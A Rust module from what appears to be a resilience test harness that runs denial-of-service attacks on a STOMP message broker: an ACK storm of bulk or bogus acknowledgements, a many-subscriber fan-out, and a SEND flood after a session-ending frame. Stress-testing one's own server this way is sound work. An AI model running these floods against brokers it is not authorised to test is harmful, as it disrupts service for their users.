//! Attacks by frames that are cheap to send and make the node do much: acknowledgements, one message for many who read,
//! and frames after the end of a session.

use std::cell::RefCell;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::task::{JoinSet, yield_now};
use tokio::time::{Duration, sleep};

use super::put_text;
use super::{Attacker, COUNTS, Outcome, SESSIONS, drain, repeat, send, write_frame};

/// How many topics the sessions of an ACK storm subscribe to, eight times each: within the burst of a visitor.
const TOPICS: usize = 8;
/// How many messages each attacker sends at first, also within it, and before each later storm, as often as a visitor may.
const FIRST_MESSAGES: usize = 30;
const MESSAGES: usize = 10;
/// How long messages are left unsettled before all of them are acknowledged.
const CALM: Duration = Duration::from_secs(3);
/// How many ACKs are written at once: about as many as a node reads at once.
const ACKS: usize = 500;
/// How many ACKs are written when nothing was read, as at a sink.
const BLIND: usize = 2_000;
/// What the id of a message stands behind.
const ACK: &[u8] = b"\nack:";

/// Lets messages that all attackers send to the same topics wait, and then acknowledges each of them in its order, as
/// fast as the socket accepts it; again and again.
pub(super) async fn acknowledge(attacker: &mut Attacker) -> Outcome<()> {
    let mut session = attacker.connected().await?;
    for topic in 0..TOPICS {
        for number in 0..8 {
            let frame = format!(
                "SUBSCRIBE\nid:{topic}-{number}\ndestination:/topic/acks.{topic}\nack:client\nprefetch-count:1000\n\n\0"
            );
            write_frame(&mut session.stream, frame.as_bytes()).await?;
        }
    }
    let unsettled = RefCell::new(Vec::new());
    let (mut reader, mut writer) = split(session.stream);
    let write = async {
        let mut messages = FIRST_MESSAGES;
        loop {
            let mut bytes = Vec::new();
            for number in 0..messages {
                put_text(
                    &mut bytes,
                    &send(&format!("/topic/acks.{}", number % TOPICS), "x"),
                );
            }
            writer.write_all(&bytes).await?;
            messages = MESSAGES;
            sleep(CALM).await;
            let mut ids = unsettled.take();
            if ids.is_empty() {
                ids = vec![b"none".to_vec(); BLIND];
            }
            for ids in ids.chunks(ACKS) {
                let mut bytes = Vec::new();
                for id in ids {
                    put_text(
                        &mut bytes,
                        &[b"ACK\nid:", id.as_slice(), b"\n\n\0"].concat(),
                    );
                }
                writer.write_all(&bytes).await?;
                COUNTS.requests.add(ids.len() as u64);
            }
        }
    };
    let read = async {
        let mut bytes = vec![0; 32 << 10];
        loop {
            let read = reader.read(&mut bytes).await?;
            if read == 0 {
                return Err("the connection was closed".into());
            }
            find_ids(
                bytes.get(..read).unwrap_or_default(),
                &mut unsettled.borrow_mut(),
            );
        }
    };
    tokio::select! {
        written = write => { let ended: Outcome<()> = written; ended }
        closed = read => closed,
    }
}

/// The ids of the messages in what was read. One that is cut in two by a read is not worth looking for.
fn find_ids(bytes: &[u8], ids: &mut Vec<Vec<u8>>) {
    let mut rest = bytes;
    while let Some(at) = rest.windows(ACK.len()).position(|part| part == ACK) {
        rest = rest.get(at + ACK.len()..).unwrap_or_default();
        let Some(end) = rest.iter().position(|byte| *byte == b'\n') else {
            return;
        };
        ids.push(rest.get(..end).unwrap_or_default().to_vec());
    }
}

/// Subscribers to one topic, eight times each, who read. One attacker sends to it, as often as a visitor may.
pub(super) async fn fan_out(attacker: &mut Attacker) -> Outcome<()> {
    let mut sessions = JoinSet::new();
    for index in 0..SESSIONS {
        let mut session = attacker.connected().await?;
        for number in 0..8 {
            let frame = format!("SUBSCRIBE\nid:{number}\ndestination:/topic/crowd\n\n\0");
            write_frame(&mut session.stream, frame.as_bytes()).await?;
        }
        if attacker.place.number == 0 && index == 0 {
            sessions.spawn_local(async move {
                let mut bytes = Vec::new();
                put_text(&mut bytes, &send("/topic/crowd", &"x".repeat(100)));
                repeat(session.stream, &bytes, Some(Duration::from_millis(300))).await
            });
        } else {
            sessions.spawn_local(drain(session.stream));
        }
    }
    while sessions.join_next().await.is_some() {}
    Ok(())
}

/// A frame that ends its session, and SENDs as fast as the socket accepts them after it. The ERROR is not read.
pub(super) async fn after_error(attacker: &mut Attacker) -> Outcome<()> {
    let mut session = attacker.connected().await?;
    write_frame(&mut session.stream, b"NONSENSE\n\n\0").await?;
    let mut bytes = Vec::new();
    for _ in 0..20 {
        put_text(&mut bytes, &send("/topic/flood", &"x".repeat(1_000)));
    }
    loop {
        session.stream.write_all(&bytes).await?;
        COUNTS.requests.add(1);
        yield_now().await;
    }
}
